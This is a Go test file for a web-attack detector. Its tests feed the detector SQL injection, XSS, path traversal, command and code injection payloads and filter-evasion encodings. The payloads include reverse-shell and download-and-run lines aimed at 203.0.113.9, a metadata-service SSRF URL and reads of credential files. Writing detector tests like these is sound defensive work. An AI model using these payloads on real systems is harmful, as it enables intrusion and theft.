package webattack_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/tracewall/tracewall/shared/webattack"
	"github.com/tracewall/tracewall/shared/webattack/webattacktest"
)

// classOf tells which classes are found, the worst first.
func classOf(r webattack.Request) []webattack.Class {
	var all []webattack.Class
	for _, f := range webattack.Inspect(r) {
		all = append(all, f.Class)
	}
	return all
}

// In each class, attacks as they are sent; the value is encoded as a browser would.
func TestAttacksOfEachClass(t *testing.T) {
	for class, values := range map[webattack.Class][]string{
		webattack.SQLInjection: {
			"1' or '1'='1", "1 or 1=1", "-1 union select 1,2,3", "1 UNION ALL SELECT NULL,NULL--", "admin'--", "1; drop table users", "1' and sleep(5)#",
			"1);waitfor delay '0:0:5'--", "1 and (select count(*) from information_schema.tables)>0", "1' and extractvalue(1,concat(0x7e,version()))-- -",
			"1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "x' AND email IS NULL; --", "1/**/union/**/select/**/password/**/from/**/users",
			"1' order by 10-- -", "pg_sleep(5)", "'; exec xp_cmdshell('dir')--", "1 and ascii(substring((select database()),1,1))=100", "password::int", "' || this.password",
			"1' union select load_file('/etc/passwd')--", "1 into outfile '/var/www/x.php'",
		},
		webattack.XSS: {
			"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "<svg/onload=alert(1)>", "javascript:alert(document.cookie)", `" onmouseover="alert(1)`,
			"<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "'-alert(1)-'", "{{constructor.constructor('alert(1)')()}}", "<details open ontoggle=alert(1)>",
			"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<object data=javascript:alert(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
		},
		webattack.PathTraversal: {
			"../../../etc/passwd", "....//....//etc/passwd", `..\..\..\windows\win.ini`, "/etc/shadow", "/proc/self/environ", "file.php%00.jpg/../../../etc/passwd", "..;/..;/manager/html",
			"/var/log/apache2/access.log", "../../../../../../boot.ini", "/WEB-INF/web.xml", "/home/user/.ssh/id_rsa", "../wp-config.php", "../../config.php", `C:\Windows\System32\drivers\etc\hosts`,
		},
		webattack.CommandInjection: {
			";id", "|whoami", "127.0.0.1;cat /etc/passwd", "127.0.0.1 && ls -la", "`id`", "$(curl http://203.0.113.9/x.sh)", "x|nc -e /bin/sh 203.0.113.9 4444", "x;wget http://203.0.113.9/a -O- | sh",
			"& ping -n 5 127.0.0.1", "x & type %SYSTEMROOT%\\win.ini", "powershell -enc SQBFAFgA", "cat$IFS/etc/passwd", "{cat,/etc/passwd}", "c'a't /etc/passwd", `w\ho\am\i;w\ho\am\i`, "a;{echo,aWQ=}|{base64,-d}|sh",
			"x\nping -c 3 203.0.113.9", "x;sleep 5", "/bin/bash -c id", "%0a/usr/bin/id", "x||uname -a", "python -c 'import os'",
		},
		webattack.CodeInjection: {
			"<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", "phar://x.phar", "expect://id", "data://text/plain;base64,PD9waHA=", "{{7*7}}", "${7*7}", "#{7*7}",
			"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", `O:8:"Evil":1:{s:1:"a";i:1;}`, "require('child_process').exec('id')",
			"__proto__[admin]=1", "eval(base64_decode('aWQ='))", "assert($_POST['x'])", "http://203.0.113.9/shell.txt?", "http://169.254.169.254/latest/meta-data/iam/", "gopher://127.0.0.1:6379/_x", "file:///etc/passwd",
			"<%= system('id') %>", "@{[system 'id']}", "%{(#_memberAccess=1)}", "<!--#exec cmd=\"id\"-->", "x\r\nSet-Cookie: a=b", "phpinfo()", "ssh2.exec://u:p@h/x",
		},
	} {
		for _, value := range values {
			for _, path := range []string{"/a?id=" + url.QueryEscape(value), "/a?x=1&page=" + strings.ReplaceAll(url.PathEscape(value), "&", "%26") + "&y=2"} {
				if found := classOf(webattack.Request{Path: path}); !slices.Contains(found, class) {
					t.Errorf("%s: %s: %v", class, value, found)
				}
			}
		}
	}
}

// Known holes by the request that uses them, as it stands in logs.
func TestKnownHolesAreCalledByTheirNames(t *testing.T) {
	for path, name := range webattacktest.HolesByPath() {
		found := webattack.Inspect(webattack.Request{Path: path})
		if len(found) == 0 || found[0].Class != webattack.Exploit || found[0].Name != name {
			t.Errorf("%s: %q, want %s", path, found, name)
		}
	}
	for agent, name := range webattacktest.HolesByAgent() {
		for _, r := range []webattack.Request{{Agent: agent}, {Path: "/", Agent: "Mozilla/5.0", Referer: agent}} {
			found := webattack.Inspect(r)
			if len(found) == 0 || found[0].Class != webattack.Exploit || found[0].Name != name {
				t.Errorf("%q: %q, want %s", r, found, name)
			}
		}
	}
}

// One attack in every dress that is known to get past filters.
func TestDisguises(t *testing.T) {
	for path, class := range map[string]webattack.Class{
		"/?id=1%2527%2520union%2520select%25201,2":                 webattack.SQLInjection,
		"/?id=1%252527%252520union%252520select%2525201,2":         webattack.SQLInjection,
		"/?id=1%27%20uNiOn%20aLl%20sElEcT%201,2":                   webattack.SQLInjection,
		"/?id=1%27/*x*/union/*y*/select/*z*/1,2":                   webattack.SQLInjection,
		"/?id=1%27%0aunion%0d%0aselect%091,2":                      webattack.SQLInjection,
		"/?id=1%27/*!50000union*//*!50000select*/1,2":              webattack.SQLInjection,
		"/?id=1%00%27%20un%00ion%20sel%00ect%201,2":                webattack.SQLInjection,
		"/?id=1%u0027%u0020union%u0020select%u00201,2":             webattack.SQLInjection,
		"/?id=1%EF%BC%87%20%EF%BD%95nion%20select%201,2":           webattack.SQLInjection,
		"/?id=1%26%2339%3B%20union%20select%201,2":                 webattack.SQLInjection,
		"/?q=%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E":              webattack.XSS,
		"/?q=%253Cscript%253Ealert(1)%253C/script%253E":            webattack.XSS,
		"/?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;":        webattack.XSS,
		"/?q=%26%23x3c%3Bscript%26%23x3e%3Balert(1)":               webattack.XSS,
		`/?q=\u003cscript\u003ealert(1)`:                           webattack.XSS,
		`/?q=\x3cscript\x3ealert(1)`:                               webattack.XSS,
		"/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script":     webattack.XSS,
		"/?q=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be":        webattack.XSS,
		"/?q=+ADw-script+AD4-alert(1)":                             webattack.XSS,
		"/?f=%2e%2e%2fetc%2fpasswd":                                webattack.PathTraversal,
		"/?f=%252e%252e%252fsecret":                                webattack.PathTraversal,
		"/?f=..%c0%af..%c0%afsecret.txt":                           webattack.PathTraversal,
		"/?f=..%c1%9c..%c1%9csecret.txt":                           webattack.PathTraversal,
		"/?f=%u002e%u002e%u2215secret":                             webattack.PathTraversal,
		"/?f=%EF%BC%8E%EF%BC%8E%EF%BC%8Fsecret":                    webattack.PathTraversal,
		"/%2e%2e/%2e%2e/secret":                                    webattack.PathTraversal,
		"/..%252f..%252f..%252fetc/passwd":                         webattack.PathTraversal,
		"/?f=/etc//passwd":                                         webattack.PathTraversal,
		"/?x=;c%27%27at%20/etc/issue.net%20%23":                    webattack.CommandInjection,
		`/?x=;c\at%20/x`:                                           webattack.CommandInjection,
		"/?x=;c$@at%20/x":                                          webattack.CommandInjection,
		"/?x=;cat$%7BIFS%7D/x":                                     webattack.CommandInjection,
		"/?x=;/???/c?t%20/e??/x":                                   webattack.CommandInjection,
		"/?x=%3Bwho%60%60ami":                                      webattack.CommandInjection,
		"/?x=%253Bwhoami":                                          webattack.CommandInjection,
		"/?x=%26%26%20w^ho^ami":                                    webattack.CommandInjection,
		"/?x=%3C%3FpHp%20%65cho%201":                               webattack.CodeInjection,
		"/?x=%257B%257B7*7%257D%257D":                              webattack.CodeInjection,
		"/?%27%20or%201=1--=x":                                     webattack.SQLInjection,
		"/items/1%27%20or%20%271%27=%271":                          webattack.SQLInjection,
		"/?a=1&a=2&b[]=%27%20or%201=1--%20":                        webattack.SQLInjection,
		"/?x=" + strings.Repeat("a", 3000) + "%27%20or%201=1--%20": webattack.SQLInjection,
	} {
		if found := classOf(webattack.Request{Path: path}); !slices.Contains(found, class) {
			t.Errorf("%s: %v, want %s", path, found, class)
		}
	}
}

// What the SQL of rules asks of a finding.
func TestFindingsAreInOrderAndSayWhereTheyWereSeen(t *testing.T) {
	found := webattack.Inspect(webattack.Request{
		Path: "/?q=<script>alert(1)</script>&id=1'+union+select+1,2", Agent: "${jndi:ldap://x/a}", Referer: "() { :;}; /bin/sh -c id",
	})
	var got []string
	for _, f := range found {
		got = append(got, string(f.Class)+" "+f.Field)
	}
	want := []string{"known-exploit agent", "command-injection referer", "sql-injection path", "xss path"}
	if !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	if f := found[2]; f.Name != "union select" || f.Match != "1' union select 1,2" {
		t.Errorf("%q", f)
	}
}

func TestClassesAreReadAsTheyAreWritten(t *testing.T) {
	for _, c := range webattack.Classes() {
		if got, ok := webattack.ParseClass(string(c)); !ok || got != c {
			t.Errorf("%s: %s, %v", c, got, ok)
		}
	}
	for _, s := range []string{"", "SQL-injection", "xss "} {
		if c, ok := webattack.ParseClass(s); ok {
			t.Errorf("%q is %s", s, c)
		}
	}
}

// sound fails unless findings keep what their type promises.
func sound(t interface{ Fatalf(string, ...any) }, r webattack.Request) {
	found := webattack.Inspect(r)
	if again := webattack.Inspect(r); !slices.Equal(found, again) {
		t.Fatalf("%q: %q, then %q", r, found, again)
	}
	last := -1
	for _, f := range found {
		rank := slices.Index(webattack.Classes(), f.Class)
		if rank <= last {
			t.Fatalf("%q: %q: not in order, or a class twice", r, found)
		}
		last = rank
		if len(f.Match) > 120 || f.Name == "" || !slices.Contains([]string{"path", "agent", "referer"}, f.Field) {
			t.Fatalf("%q: %q", r, f)
		}
	}
}

func TestFindingsAreSoundWhateverIsSent(t *testing.T) {
	piece := rapid.SampledFrom([]string{
		"'", "\"", " or ", "1=1", "union select ", "<script>", "on", "load=", "../", "..\\", "%2e", "%25", "%c0%af", "%u002f", "&#x3c;", "\\x3c", "/etc/passwd", ";", "|", "`", "$(", "${", "jndi:", "{{", "}}", "/*", "*/", "--", "#", "%00", "\x00", "\xff",
		"cat ", "sleep(5)", "a=", "&", "?", "=", "/", "<?php ", "system(", ")", "\r\n", "set-cookie: ", "://", "http", "x", " ", "+",
	})
	rapid.Check(t, func(t *rapid.T) {
		text := func(name string) string {
			return strings.Join(rapid.SliceOfN(rapid.OneOf(piece, rapid.String()), 0, 12).Draw(t, name), "")
		}
		sound(t, webattack.Request{Path: text("path"), Agent: text("agent"), Referer: text("referer")})
	})
}

func FuzzInspect(f *testing.F) {
	f.Add("/?id=1%27%20union%20select%201,2", "${jndi:ldap://x}", "https://example.com/")
	f.Add("/%2e%2e/%252e%252e/\x00\xff\xc0\xaf", "() { :;};", "\\u003cscript")
	f.Add("/?a=/*!50000union*/&b=&#x3c;", "`id`", "$(id)")
	f.Fuzz(func(t *testing.T, path, agent, referer string) {
		sound(t, webattack.Request{Path: path, Agent: agent, Referer: referer})
	})
}
